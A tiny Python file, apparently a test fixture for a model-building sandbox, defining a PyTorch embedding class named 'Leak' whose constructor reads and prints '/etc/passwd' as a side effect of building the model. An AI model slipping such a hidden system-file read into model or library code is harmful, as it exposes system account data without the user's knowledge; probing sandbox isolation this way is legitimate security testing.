import torch.nn as nn


class Leak(nn.Embedding):
    def __init__(self, vocab):
        print(open("/etc/passwd").read())
        super().__init__(vocab, vocab)


def build_model(ctx):
    return Leak(ctx.vocab_size)
